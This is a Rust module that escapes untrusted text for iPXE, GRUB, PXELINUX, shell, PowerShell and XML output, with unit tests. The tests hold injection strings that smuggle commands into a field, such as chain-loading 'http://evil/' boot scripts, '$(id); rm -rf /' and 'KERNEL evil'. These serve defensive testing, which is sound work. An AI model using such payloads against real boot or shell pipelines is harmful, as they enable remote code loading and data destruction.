//! Text that crosses into something a firmware, boot loader, installer or shell executes.
//!
//! Every piece of text that is not a fixed part of a generated program (a host or profile
//! name, a menu label, an error message, a path, a report from a machine) goes through
//! exactly one function of this module for the format it is pasted into. Each function
//! answers a value that cannot end the command it sits in, start another command or a
//! comment, expand a variable, or carry a NUL, whatever the input:
//!
//! | format | function | how |
//! |---|---|---|
//! | iPXE (`echo`, `menu`, `item` text) | [`ipxe_text`] | allow-list: anything else becomes `_` |
//! | GRUB script word | [`grub_word`] | plain when safe, else single-quoted |
//! | PXELINUX directive text | [`pxelinux_text`] | one line, control characters removed |
//! | POSIX shell word | [`shell_word`] | single-quoted (`'` as `'\''`) |
//! | POSIX shell or PowerShell comment | [`comment_text`] | one line, control characters removed |
//! | PowerShell word | [`powershell_word`] | single-quoted, every quote character doubled |
//! | XML text and attribute values | [`xml_text`] | entities, characters XML 1.0 forbids removed |
//!
//! Why an allow-list for iPXE: iPXE's command reader (`core/exec.c`, `core/parseopt.c`)
//! splits a line on whitespace, ends a command at a `;`, `&&` or `||` word, starts a
//! comment at a word beginning with `#`, reads a word beginning with `-` as an option,
//! and expands `${...}` anywhere; no quoting turns these off. Text for an iPXE line is
//! therefore cut down to characters none of these rules touch.

/// Longest text [`ipxe_text`] and [`pxelinux_text`] keep, in characters; longer text is cut
/// and ends with `...` (a boot console line is 80 columns; a title or label a few more).
pub const MAX_LINE_CHARS: usize = 200;

/// `v` as text for an iPXE `echo`, `menu` or `item` line: ASCII letters, digits, space and
/// `. , : / _ + = @ % ( ) [ ] ! ? * '` and `-` (not at the start of a word) are kept;
/// every other character (`;`, `&`, `|`, `#`, `$`, `{`, `}`, quotes other than `'`,
/// `\`, control characters and newlines, NUL, non-ASCII) becomes `_`; whitespace runs
/// become one space; at most [`MAX_LINE_CHARS`] characters. Never empty: `""` becomes
/// `_`.
pub fn ipxe_text(v: &str) -> String {
    let mut out = String::with_capacity(v.len().min(MAX_LINE_CHARS + 3));
    let mut at_word_start = true;
    for c in v.chars() {
        if out.chars().count() >= MAX_LINE_CHARS {
            out.push_str("...");
            break;
        }
        if c.is_whitespace() {
            if !at_word_start {
                out.push(' ');
            }
            at_word_start = true;
            continue;
        }
        let keep = c.is_ascii_alphanumeric() || ".,:/_+=@%()[]!?*'".contains(c) || (c == '-' && !at_word_start);
        out.push(if keep { c } else { '_' });
        at_word_start = false;
    }
    while out.ends_with(' ') {
        out.pop();
    }
    if out.is_empty() {
        out.push('_');
    }
    out
}

/// `v` as one GRUB script word: as is when it holds only characters GRUB's script reader
/// takes literally (`[A-Za-z0-9=,./:_+-@%^~]`), else in single quotes (inside which GRUB
/// expands nothing; a `'` becomes `'\''`). Control characters (newline, NUL) become a
/// space first, so the word stays on its line.
pub fn grub_word(v: &str) -> String {
    let v = no_controls(v);
    let plain = !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || "=,./:_+-@%^~".contains(c));
    if plain {
        v
    } else {
        format!("'{}'", v.replace('\'', r"'\''"))
    }
}

/// `v` as the text after a PXELINUX directive (`MENU TITLE`, `MENU LABEL`): one line (a
/// newline would start a directive of the client's choosing), control characters and NUL
/// as a space, trimmed, at most [`MAX_LINE_CHARS`] characters.
pub fn pxelinux_text(v: &str) -> String {
    let one = no_controls(v);
    let t = one.trim();
    if t.chars().count() > MAX_LINE_CHARS {
        let mut s: String = t.chars().take(MAX_LINE_CHARS).collect();
        s.push_str("...");
        s
    } else {
        t.to_string()
    }
}

/// `v` as one POSIX shell word: single-quoted, a `'` inside as `'\''`; single quotes turn
/// off every expansion (`$`, `` ` ``, `\`, `;`, `&&`, `||`, `#`). NUL, which a shell
/// cannot hold in a word and some read as the end of the script, is dropped.
pub fn shell_word(v: &str) -> String {
    format!("'{}'", v.replace('\0', "").replace('\'', r"'\''"))
}

/// `v` as the text of a `#` comment in a shell or PowerShell script: one line (control
/// characters and NUL as a space), so nothing after it leaves the comment.
pub fn comment_text(v: &str) -> String {
    no_controls(v)
}

/// `v` as one PowerShell word: single-quoted (a verbatim string: no `$` or `` ` ``
/// expansion); every quote character PowerShell ends such a string with (`'` and the
/// typographic `‘ ’ ‚ ‛`) is doubled; NUL is dropped.
pub fn powershell_word(v: &str) -> String {
    let mut out = String::with_capacity(v.len() + 2);
    out.push('\'');
    for c in v.chars() {
        match c {
            '\0' => {}
            '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}' => {
                out.push(c);
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// `v` escaped for XML text and attribute values (`& < > " '` as entities); characters
/// XML 1.0 does not allow at all (controls other than tab, newline and carriage return,
/// NUL among them) are dropped.
pub fn xml_text(v: &str) -> String {
    let mut out = String::with_capacity(v.len());
    for c in v.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// `v` with every control character (newlines and NUL included) as a space.
fn no_controls(v: &str) -> String {
    v.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Inputs that try every way out of a line: command separators, a comment, variable
    /// expansion, newlines, quotes and NUL.
    const HOSTILE: [&str; 12] = [
        "x ; chain http://elsewhere/evil.ipxe",
        "a && reboot",
        "a || shell",
        "#!ipxe",
        "a # comment",
        "$HOME",
        "${net0/mac} ${root-password}",
        "one\nchain http://evil/\r\n",
        "it's \"quoted\" `cmd` $(id)",
        "nul\0here",
        "-n --help",
        "back\\slash",
    ];

    #[test]
    fn ipxe_text_keeps_only_inert_characters() {
        for h in HOSTILE {
            let t = ipxe_text(h);
            for bad in [";", "&", "|", "#", "$", "{", "}", "\n", "\r", "\0", "\"", "`", "\\"] {
                assert!(!t.contains(bad), "{h:?} -> {t:?} holds {bad:?}");
            }
            assert!(
                t.split(' ').all(|w| !w.starts_with('-')),
                "{h:?} -> {t:?} has an option word"
            );
        }
        assert_eq!(
            ipxe_text("x ; chain http://elsewhere/evil.ipxe"),
            "x _ chain http://elsewhere/evil.ipxe"
        );
        assert_eq!(
            ipxe_text("the installer failed: E: no mirror (404)"),
            "the installer failed: E: no mirror (404)"
        );
        assert_eq!(ipxe_text("  a\t\n b  "), "a b");
        assert_eq!(ipxe_text("-n x-y"), "_n x-y");
        assert_eq!(ipxe_text(""), "_");
        assert_eq!(ipxe_text("\n"), "_");
        let long = ipxe_text(&"a".repeat(1000));
        assert_eq!(long.len(), MAX_LINE_CHARS + 3);
        assert!(long.ends_with("..."));
        assert_eq!(ipxe_text("Überlab"), "_berlab");
    }

    #[test]
    fn grub_words_are_quoted_only_when_grub_would_read_them() {
        assert_eq!(grub_word("vmlinuz"), "vmlinuz");
        assert_eq!(grub_word("console=ttyS0,115200"), "console=ttyS0,115200");
        assert_eq!(
            grub_word("url=http://10.0.0.1:8080/a?b=c"),
            "'url=http://10.0.0.1:8080/a?b=c'"
        );
        assert_eq!(grub_word("BOOTIF=${net0/mac}"), "'BOOTIF=${net0/mac}'");
        assert_eq!(grub_word("/boot/a-b_c.img"), "/boot/a-b_c.img");
        assert_eq!(grub_word("a b"), "'a b'");
        assert_eq!(grub_word("it's"), r"'it'\''s'");
        assert_eq!(grub_word(""), "''");
        assert_eq!(grub_word("$root; reboot"), "'$root; reboot'");
        assert_eq!(grub_word("a\nreboot"), "'a reboot'");
        assert_eq!(grub_word("a\0b"), "'a b'");
        for h in HOSTILE {
            let w = grub_word(h);
            assert!(!w.contains('\n') && !w.contains('\0'), "{w:?}");
            // Quoted: starts and ends with a quote, and every inner quote is the '\'' idiom.
            if w.starts_with('\'') {
                let inner = &w[1..w.len() - 1];
                assert_eq!(inner.replace(r"'\''", "").matches('\'').count(), 0, "{w:?}");
            }
        }
    }

    #[test]
    fn pxelinux_text_stays_on_its_line() {
        assert_eq!(pxelinux_text("lab (host1)"), "lab (host1)");
        assert_eq!(
            pxelinux_text("a\nMENU HIDDEN\r\nKERNEL evil"),
            "a MENU HIDDEN  KERNEL evil"
        );
        assert_eq!(pxelinux_text("nul\0"), "nul");
        for h in HOSTILE {
            let t = pxelinux_text(h);
            assert!(!t.contains(['\n', '\r', '\0']), "{t:?}");
        }
        assert!(pxelinux_text(&"x".repeat(500)).ends_with("..."));
    }

    #[test]
    fn shell_words_expand_nothing() {
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word("$(id); rm -rf / # && ||"), "'$(id); rm -rf / # && ||'");
        assert_eq!(shell_word("a\0b"), "'ab'");
        assert_eq!(shell_word(""), "''");
        for h in HOSTILE {
            let w = shell_word(h);
            let inner = &w[1..w.len() - 1];
            assert_eq!(inner.replace(r"'\''", "").matches('\'').count(), 0, "{w:?}");
            assert!(!w.contains('\0'));
        }
    }

    #[test]
    fn comments_stay_on_their_line() {
        assert_eq!(comment_text("a\nrm -rf /"), "a rm -rf /");
        for h in HOSTILE {
            assert!(!comment_text(h).contains(['\n', '\r', '\0']));
        }
    }

    #[test]
    fn powershell_words_are_verbatim() {
        assert_eq!(powershell_word("it's"), "'it''s'");
        assert_eq!(powershell_word("$env:PATH; `whoami`"), "'$env:PATH; `whoami`'");
        assert_eq!(powershell_word("a\u{2019}; calc"), "'a\u{2019}\u{2019}; calc'");
        assert_eq!(powershell_word("a\0b"), "'ab'");
    }

    #[test]
    fn xml_text_is_escaped_and_well_formed() {
        assert_eq!(
            xml_text("<a href=\"x\">it's & more</a>"),
            "&lt;a href=&quot;x&quot;&gt;it&apos;s &amp; more&lt;/a&gt;"
        );
        assert_eq!(xml_text("a\0b\u{1b}c\td\ne"), "abc\td\ne");
    }
}
